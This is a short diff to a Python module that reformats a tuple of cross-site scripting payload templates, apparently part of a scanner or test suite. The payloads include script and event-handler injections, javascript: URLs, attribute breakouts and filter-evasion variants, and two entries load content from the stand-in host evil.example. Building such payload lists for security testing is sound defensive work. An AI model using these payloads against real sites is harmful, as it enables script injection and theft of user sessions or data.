@@ -309,11 +309,14 @@ _PATTERNS = (
     "<script>{js}</script>", '"><img src=x onerror="{js}">', "'><img src=x onerror=\"{js}\">", "<svg onload={js}>",
     "</style><script>{js}</script>", "</title><script>{js}</script>", "</textarea><script>{js}</script>",
     "--><script>{js}</script>", "]]><script>{js}</script>", "<body onload={js}>", "<details open ontoggle={js}>",
-    "<video><source onerror={js}></video>", "<input autofocus onfocus={js}>", "<iframe srcdoc='<script>parent.{js}</script>'>",
+    "<video><source onerror={js}></video>", "<input autofocus onfocus={js}>",
+    "<iframe srcdoc='<script>parent.{js}</script>'>",
     "<iframe src=\"javascript:parent.{js}\">", '" autofocus onfocus="{js}', "' onmouseover='{js}", "x');{js};('",
     "<a href=\"javascript:{js}\">x</a>", "<object data=\"javascript:{js}\">", "<embed src=\"javascript:{js}\">",
-    "<math><mi xlink:href=\"javascript:{js}\">x", "<form action=\"javascript:{js}\"><button>x", "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content=\"0;url=javascript:{js}\">", "<link rel=stylesheet href=//evil.example/{n}.css>",
+    "<math><mi xlink:href=\"javascript:{js}\">x", "<form action=\"javascript:{js}\"><button>x",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=\"0;url=javascript:{js}\">",
+    "<link rel=stylesheet href=//evil.example/{n}.css>",
     "{{{{ {js} }}}}", "{{% raw %}}<script>{js}</script>", "\\u003cscript>{js}</script>", "<scr\tipt>{js}</script>",
 )  # fmt: skip
 
